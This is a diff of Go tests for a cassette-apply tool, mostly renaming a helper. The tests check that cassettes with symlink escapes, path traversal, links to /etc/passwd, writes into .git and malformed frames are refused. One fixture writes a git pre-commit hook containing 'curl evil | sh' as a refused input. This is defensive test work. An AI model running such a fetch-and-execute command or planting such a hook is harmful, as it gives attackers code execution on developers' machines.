@@ -46,8 +46,8 @@ func del(p, before string) fx {
 	return fx{Effect: cassette.Effect{Op: cassette.OpDelete, Path: p, Before: sum(before)}}
 }
 
-// tape writes a cassette of the effects, with some output before them.
-func tape(t testing.TB, h cassette.Header, effects ...fx) []byte {
+// cassette writes a cassette of the effects, with some output before them.
+func newCassette(t testing.TB, h cassette.Header, effects ...fx) []byte {
 	t.Helper()
 	var buf bytes.Buffer
 	h.Argv = []string{"agent"}
@@ -150,14 +150,14 @@ func refused(t *testing.T, s sandbox, data []byte, want error, msg string) {
 // write out of the working directory.
 func TestApplyLinkChainEscape(t *testing.T) {
 	s := newSandbox(t)
-	data := tape(t, cassette.Header{}, mkdir("d"), link("d/up", ".."), link("esc", "d/up/.."), create("esc/outside/pwned.txt", "pwned\n"))
+	data := newCassette(t, cassette.Header{}, mkdir("d"), link("d/up", ".."), link("esc", "d/up/.."), create("esc/outside/pwned.txt", "pwned\n"))
 	refused(t, s, data, apply.ErrUnsafe, `"esc" links to "d/up/..", outside the working directory (line 7), "esc/outside/pwned.txt" passes through the symbolic link esc (line 8)`)
 	// Without the write, the escaping link alone is refused all the same.
-	data = tape(t, cassette.Header{}, mkdir("d"), link("d/up", ".."), link("esc", "d/up/.."))
+	data = newCassette(t, cassette.Header{}, mkdir("d"), link("d/up", ".."), link("esc", "d/up/.."))
 	refused(t, s, data, apply.ErrUnsafe, `"esc" links to "d/up/..", outside`)
 	// A link already in the tree counts too.
 	os.Symlink("..", filepath.Join(s.root, "up"))
-	data = tape(t, cassette.Header{}, link("esc2", "up/outside"))
+	data = newCassette(t, cassette.Header{}, link("esc2", "up/outside"))
 	refused(t, s, data, apply.ErrUnsafe, `"esc2" links to "up/outside", outside`)
 }
 
@@ -166,14 +166,14 @@ func TestApplyLinkChainEscape(t *testing.T) {
 func TestApplyNeverWritesThroughLinks(t *testing.T) {
 	s := newSandbox(t)
 	os.Mkdir(filepath.Join(s.root, "sub"), 0o755)
-	refused(t, s, tape(t, cassette.Header{}, link("dl", "sub"), create("dl/x.txt", "x\n")),
+	refused(t, s, newCassette(t, cassette.Header{}, link("dl", "sub"), create("dl/x.txt", "x\n")),
 		apply.ErrUnsafe, `"dl/x.txt" passes through the symbolic link dl`)
 	os.Symlink(s.outside, filepath.Join(s.root, "out"))
-	refused(t, s, tape(t, cassette.Header{}, create("out/x.txt", "x\n")), apply.ErrUnsafe, "passes through the symbolic link out")
+	refused(t, s, newCassette(t, cassette.Header{}, create("out/x.txt", "x\n")), apply.ErrUnsafe, "passes through the symbolic link out")
 	os.Symlink("keep.txt", filepath.Join(s.root, "lk"))
-	refused(t, s, tape(t, cassette.Header{}, modify("lk", "mine\n", "evil\n")), apply.ErrConflict, "lk: is a symbolic link")
+	refused(t, s, newCassette(t, cassette.Header{}, modify("lk", "mine\n", "evil\n")), apply.ErrConflict, "lk: is a symbolic link")
 	// --force replaces the link by a file: the file it pointed to is untouched.
-	if _, err := s.apply(t, tape(t, cassette.Header{}, modify("lk", "mine\n", "evil\n")), apply.ApplyOptions{Force: true}); err != nil {
+	if _, err := s.apply(t, newCassette(t, cassette.Header{}, modify("lk", "mine\n", "evil\n")), apply.ApplyOptions{Force: true}); err != nil {
 		t.Fatal(err)
 	}
 	if got, _ := os.ReadFile(filepath.Join(s.root, "keep.txt")); string(got) != "mine\n" {
@@ -193,15 +193,15 @@ func TestApplyNeverTouchesGit(t *testing.T) {
 	os.WriteFile(filepath.Join(s.root, ".git", "hooks", apply.TempPrefix+"4242-00-1.new"), []byte("git's\n"), 0o644)
 	hook := create(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
 	hook.Mode = "0755"
-	refused(t, s, tape(t, cassette.Header{}, hook), apply.ErrUnsafe, `evil.cassette:5: unsafe path: ".git/hooks/pre-commit" is in .git`)
-	refused(t, s, tape(t, cassette.Header{}, create(".GIT/config", "x")), apply.ErrUnsafe, "is in .git")
-	refused(t, s, tape(t, cassette.Header{}, create("sub/.git/config", "x")), apply.ErrUnsafe, "is in .git")
-	refused(t, s, tape(t, cassette.Header{}, link("hooks", ".git/hooks")), apply.ErrUnsafe, `"hooks" links to ".git/hooks", into .git`)
-	refused(t, s, tape(t, cassette.Header{}, mkdir("x"), link("x/h", "../.git")), apply.ErrUnsafe, "into .git")
-	refused(t, s, tape(t, cassette.Header{}, del(".git/HEAD", "ref\n")), apply.ErrUnsafe, "is in .git")
+	refused(t, s, newCassette(t, cassette.Header{}, hook), apply.ErrUnsafe, `evil.cassette:5: unsafe path: ".git/hooks/pre-commit" is in .git`)
+	refused(t, s, newCassette(t, cassette.Header{}, create(".GIT/config", "x")), apply.ErrUnsafe, "is in .git")
+	refused(t, s, newCassette(t, cassette.Header{}, create("sub/.git/config", "x")), apply.ErrUnsafe, "is in .git")
+	refused(t, s, newCassette(t, cassette.Header{}, link("hooks", ".git/hooks")), apply.ErrUnsafe, `"hooks" links to ".git/hooks", into .git`)
+	refused(t, s, newCassette(t, cassette.Header{}, mkdir("x"), link("x/h", "../.git")), apply.ErrUnsafe, "into .git")
+	refused(t, s, newCassette(t, cassette.Header{}, del(".git/HEAD", "ref\n")), apply.ErrUnsafe, "is in .git")
 	ign := cassette.Header{Ignore: []string{"*.log", "build"}}
-	refused(t, s, tape(t, ign, create("a/b.log", "x")), apply.ErrUnsafe, `"a/b.log" matches "*.log", which the recording ignored`)
-	refused(t, s, tape(t, ign, create("build/out", "x")), apply.ErrUnsafe, `matches "build"`)
+	refused(t, s, newCassette(t, ign, create("a/b.log", "x")), apply.ErrUnsafe, `"a/b.log" matches "*.log", which the recording ignored`)
+	refused(t, s, newCassette(t, ign, create("build/out", "x")), apply.ErrUnsafe, `matches "build"`)
 }
 
 // Paths that leave the directory by their text.
@@ -210,7 +210,7 @@ func TestApplyRefusesEscapingPaths(t *testing.T) {
 	for _, e := range []fx{create("../outside/x", "x"), create("/tmp/abs", "x"), create("a/../../x", "x"), create("a//b", "x"),
 		link("l", "../outside"), link("l", "/etc/passwd"), link("a/l", "../../outside"), del("../outside/secret.txt", "outside\n")} {
 		t.Run(e.Path+e.Target, func(t *testing.T) {
-			refused(t, s, tape(t, cassette.Header{}, create("fine.txt", "ok\n"), e), apply.ErrUnsafe, "")
+			refused(t, s, newCassette(t, cassette.Header{}, create("fine.txt", "ok\n"), e), apply.ErrUnsafe, "")
 		})
 	}
 }
@@ -227,14 +227,14 @@ func TestPlanFormatErrors(t *testing.T) {
 		data []byte
 		msg  string
 	}{
-		{"sha mismatch", tape(t, cassette.Header{}, create("a.txt", "a\n"), bad), `evil.cassette:7: malformed cassette: file effect "x.txt": its 5 bytes do not match the recorded sha256`},
-		{"unknown op", tape(t, cassette.Header{}, fx{Effect: cassette.Effect{Op: "chown", Path: "x"}}), `evil.cassette:5: malformed cassette: file effect "x": unknown op "chown"`},
-		{"content on delete", tape(t, cassette.Header{}, fx{cassette.Effect{Op: cassette.OpDelete, Path: "keep.txt"}, "boom\n"}), `evil.cassette:5: malformed cassette: file effect "keep.txt": delete has no content, but the frame holds 5 bytes`},
-		{"no sha", tape(t, cassette.Header{}, fx{cassette.Effect{Op: cassette.OpCreate, Path: "x"}, "x\n"}), "create without a sha256"},
-		{"bad mode", tape(t, cassette.Header{}, fx{cassette.Effect{Op: cassette.OpMkdir, Path: "x", Mode: "4755"}, ""}), `mode "4755" is not permission bits`},
-		{"duplicate", tape(t, cassette.Header{}, create("x", "1\n"), create("x", "2\n")), `evil.cassette:7: malformed cassette: file effect "x": the path was changed already at line 5`},
-		{"link then write", tape(t, cassette.Header{}, link("x", "keep.txt"), create("x", "2\n")), "the path was changed already at line 5"},
-		{"triple", tape(t, cassette.Header{}, del("x", "1"), mkdir("x"), rmdir("x")), "the path was changed already"},
+		{"sha mismatch", newCassette(t, cassette.Header{}, create("a.txt", "a\n"), bad), `evil.cassette:7: malformed cassette: file effect "x.txt": its 5 bytes do not match the recorded sha256`},
+		{"unknown op", newCassette(t, cassette.Header{}, fx{Effect: cassette.Effect{Op: "chown", Path: "x"}}), `evil.cassette:5: malformed cassette: file effect "x": unknown op "chown"`},
+		{"content on delete", newCassette(t, cassette.Header{}, fx{cassette.Effect{Op: cassette.OpDelete, Path: "keep.txt"}, "boom\n"}), `evil.cassette:5: malformed cassette: file effect "keep.txt": delete has no content, but the frame holds 5 bytes`},
+		{"no sha", newCassette(t, cassette.Header{}, fx{cassette.Effect{Op: cassette.OpCreate, Path: "x"}, "x\n"}), "create without a sha256"},
+		{"bad mode", newCassette(t, cassette.Header{}, fx{cassette.Effect{Op: cassette.OpMkdir, Path: "x", Mode: "4755"}, ""}), `mode "4755" is not permission bits`},
+		{"duplicate", newCassette(t, cassette.Header{}, create("x", "1\n"), create("x", "2\n")), `evil.cassette:7: malformed cassette: file effect "x": the path was changed already at line 5`},
+		{"link then write", newCassette(t, cassette.Header{}, link("x", "keep.txt"), create("x", "2\n")), "the path was changed already at line 5"},
+		{"triple", newCassette(t, cassette.Header{}, del("x", "1"), mkdir("x"), rmdir("x")), "the path was changed already"},
 		{"absurd size", []byte("agentvcr cassette v2\n{}\nf 0 99999999999999999 {\"op\":\"create\",\"path\":\"x\",\"size\":99999999999999999}\n"), "evil.cassette:3: malformed cassette: frame of 99999999999999999 bytes"},
 		{"negative size", []byte("agentvcr cassette v2\n{}\nf 0 -1 {\"op\":\"create\",\"path\":\"x\",\"size\":-1}\n"), "evil.cassette:3: malformed cassette: bad frame line"},
 	}
@@ -248,7 +248,7 @@ func TestPlanFormatErrors(t *testing.T) {
 // A cassette cut anywhere is an error or a plan, never a panic; cut inside
 // a file's frame, it is an error.
 func TestPlanTruncated(t *testing.T) {
-	data := tape(t, cassette.Header{}, create("a.txt", strings.Repeat("a", 100)+"\n"), mkdir("d"), create("d/b.bin", "\x00\x01"))
+	data := newCassette(t, cassette.Header{}, create("a.txt", strings.Repeat("a", 100)+"\n"), mkdir("d"), create("d/b.bin", "\x00\x01"))
 	first := bytes.Index(data, []byte("f 0 101"))
 	for n := range len(data) {
 		p, err := readPlan(t, data[:n])
@@ -270,20 +270,20 @@ func TestApplyAllOrNothing(t *testing.T) {
 	s := newSandbox(t)
 	os.Mkdir(filepath.Join(s.root, "full"), 0o755)
 	os.WriteFile(filepath.Join(s.root, "full", "other.txt"), []byte("x"), 0o644)
-	refused(t, s, tape(t, cassette.Header{}, create("a.txt", "a\n"), del("keep.txt", "mine\n"), rmdir("full")),
+	refused(t, s, newCassette(t, cassette.Header{}, create("a.txt", "a\n"), del("keep.txt", "mine\n"), rmdir("full")),
 		apply.ErrBlocked, "full: holds full/other.txt, which the cassette does not remove")
 
 	long := strings.Repeat("d/", 2100) + "f"
-	refused(t, s, tape(t, cassette.Header{}, create("a.txt", "a\n"), create(long, "x")), apply.ErrBlocked, "longer than PATH_MAX")
-	refused(t, s, tape(t, cassette.Header{}, create("a.txt", "a\n"), create(strings.Repeat("n", 256), "x")), apply.ErrBlocked, "a name longer than 255 bytes")
-	refused(t, s, tape(t, cassette.Header{}, create("keep.txt/x", "a\n")), apply.ErrBlocked, "keep.txt is not a directory")
+	refused(t, s, newCassette(t, cassette.Header{}, create("a.txt", "a\n"), create(long, "x")), apply.ErrBlocked, "longer than PATH_MAX")
+	refused(t, s, newCassette(t, cassette.Header{}, create("a.txt", "a\n"), create(strings.Repeat("n", 256), "x")), apply.ErrBlocked, "a name longer than 255 bytes")
+	refused(t, s, newCassette(t, cassette.Header{}, create("keep.txt/x", "a\n")), apply.ErrBlocked, "keep.txt is not a directory")
 
 	if os.Geteuid() != 0 {
 		ro := filepath.Join(s.root, "ro")
 		os.Mkdir(ro, 0o555)
 		t.Cleanup(func() { os.Chmod(ro, 0o755) })
 		before := s.state(t)
-		_, err := s.apply(t, tape(t, cassette.Header{}, create("a.txt", "a\n"), mkdir("new"), create("new/b.txt", "b\n"), create("ro/x.txt", "x\n")), apply.ApplyOptions{})
+		_, err := s.apply(t, newCassette(t, cassette.Header{}, create("a.txt", "a\n"), mkdir("new"), create("new/b.txt", "b\n"), create("ro/x.txt", "x\n")), apply.ApplyOptions{})
 		if err == nil || !strings.Contains(err.Error(), "ro/x.txt: permission denied; nothing was written") {
 			t.Errorf("read-only directory: %v", err)
 		}
@@ -310,7 +310,7 @@ func TestApplyRollsBack(t *testing.T) {
 	chmod := fx{Effect: cassette.Effect{Op: cassette.OpChmod, Path: "tool.sh", Mode: "0755", Before: sum("#!/bin/sh\n")}}
 	effects := []fx{mkdir("new"), mkdir("new/deeper"), create("new/deeper/f.txt", "f\n"), modify("edit.txt", "old\n", "new\n"),
 		del("gone.txt", "bye\n"), del("olddir/x", "x\n"), rmdir("olddir"), link("lnk", "edit.txt"), chmod, create("z.txt", "z\n")}
-	data := tape(t, cassette.Header{}, effects...)
+	data := newCassette(t, cassette.Header{}, effects...)
 	var order []string
 	apply.SetCommitHook(func(p string) error { order = append(order, p); return nil })
 	t.Cleanup(func() { apply.SetCommitHook(nil) })
@@ -356,7 +356,7 @@ func TestApplyRollsBack(t *testing.T) {
 // A signal before the commit: nothing written; during it: it finishes.
 func TestApplySignals(t *testing.T) {
 	s := newSandbox(t)
-	data := tape(t, cassette.Header{}, mkdir("d"), create("d/a.txt", "a\n"), create("b.txt", "b\n"))
+	data := newCassette(t, cassette.Header{}, mkdir("d"), create("d/a.txt", "a\n"), create("b.txt", "b\n"))
 	sigs := make(chan os.Signal, 1)
 	sigs <- syscall.SIGTERM
 	before := s.state(t)
@@ -383,7 +383,7 @@ func TestApplyAfterKill(t *testing.T) {
 	s := newSandbox(t)
 	os.WriteFile(filepath.Join(s.root, "edit.txt"), []byte("old\n"), 0o644)
 	os.WriteFile(filepath.Join(s.root, "gone.txt"), []byte("bye\n"), 0o644)
-	data := tape(t, cassette.Header{}, mkdir("d"), create("d/a.txt", "a\n"), modify("edit.txt", "old\n", "new\n"), del("gone.txt", "bye\n"))
+	data := newCassette(t, cassette.Header{}, mkdir("d"), create("d/a.txt", "a\n"), modify("edit.txt", "old\n", "new\n"), del("gone.txt", "bye\n"))
 	// Killed after staging and two steps of the commit.
 	os.Mkdir(filepath.Join(s.root, "d"), 0o755)
 	os.WriteFile(filepath.Join(s.root, "d", apply.TempPrefix+"4242-00-1.new"), []byte("a\n"), 0o600)
@@ -414,7 +414,7 @@ func TestApplyTypeChanges(t *testing.T) {
 	os.WriteFile(filepath.Join(s.root, "was-file"), []byte("f\n"), 0o644)
 	os.MkdirAll(filepath.Join(s.root, "was-dir", "sub"), 0o755)
 	os.WriteFile(filepath.Join(s.root, "was-dir", "sub", "x"), []byte("x\n"), 0o644)
-	data := tape(t, cassette.Header{}, mkdir("was-file"), create("was-dir", "now a file\n"), create("was-file/in.txt", "in\n"),
+	data := newCassette(t, cassette.Header{}, mkdir("was-file"), create("was-dir", "now a file\n"), create("was-file/in.txt", "in\n"),
 		del("was-file", "f\n"), del("was-dir/sub/x", "x\n"), rmdir("was-dir/sub"), rmdir("was-dir"))
 	if _, err := s.apply(t, data, apply.ApplyOptions{}); err != nil {
 		t.Fatal(err)
@@ -439,7 +439,7 @@ func TestApplyModes(t *testing.T) {
 	tool.Mode = "0755"
 	dir := mkdir("ro")
 	dir.Mode = "0555"
-	if _, err := s.apply(t, tape(t, cassette.Header{}, dir, tool), apply.ApplyOptions{}); err != nil {
+	if _, err := s.apply(t, newCassette(t, cassette.Header{}, dir, tool), apply.ApplyOptions{}); err != nil {
 		t.Fatal(err)
 	}
 	t.Cleanup(func() { os.Chmod(filepath.Join(s.root, "ro"), 0o755) })
@@ -459,7 +459,7 @@ func TestApplyModes(t *testing.T) {
 func TestApplyUsesThePlanOnly(t *testing.T) {
 	s := newSandbox(t)
 	path := filepath.Join(t.TempDir(), "run.cassette")
-	os.WriteFile(path, tape(t, cassette.Header{}, create("x.txt", "good\n")), 0o644)
+	os.WriteFile(path, newCassette(t, cassette.Header{}, create("x.txt", "good\n")), 0o644)
 	rd, err := cassette.Open(path)
 	if err != nil {
 		t.Fatal(err)
@@ -470,7 +470,7 @@ func TestApplyUsesThePlanOnly(t *testing.T) {
 		t.Fatal(err)
 	}
 	defer p.Close()
-	evil := tape(t, cassette.Header{}, create("x.txt", "evil\n"), create("pwned", "x"))
+	evil := newCassette(t, cassette.Header{}, create("x.txt", "evil\n"), create("pwned", "x"))
 	os.WriteFile(path, evil, 0o644)
 	// The file the reader holds, rewritten in place under it.
 	if w, err := os.OpenFile(path, os.O_WRONLY, 0); err != nil {
@@ -493,7 +493,7 @@ func TestApplyUsesThePlanOnly(t *testing.T) {
 // changes may be cut short.
 func TestApplyRefusesIncomplete(t *testing.T) {
 	s := newSandbox(t)
-	data := tape(t, cassette.Header{}, create("a.txt", "a\n"), create("b.txt", "b\n"))
+	data := newCassette(t, cassette.Header{}, create("a.txt", "a\n"), create("b.txt", "b\n"))
 	data = data[:bytes.Index(data, []byte("exit "))]
 	refused(t, s, data, cassette.ErrTruncated, "incomplete recording: it ends among its file changes")
 }
@@ -501,7 +501,7 @@ func TestApplyRefusesIncomplete(t *testing.T) {
 // A plan's memory is bounded: too many effects, or descriptions too long,
 // are a format error naming the line where the bound is passed.
 func TestPlanBounds(t *testing.T) {
-	data := tape(t, cassette.Header{}, create("a", "a\n"), create("b", "b\n"), create("c", "c\n"), mkdir("d"))
+	data := newCassette(t, cassette.Header{}, create("a", "a\n"), create("b", "b\n"), create("c", "c\n"), mkdir("d"))
 	restore := apply.SetPlanLimits(3, 1<<20)
 	_, err := readPlan(t, data)
 	restore()
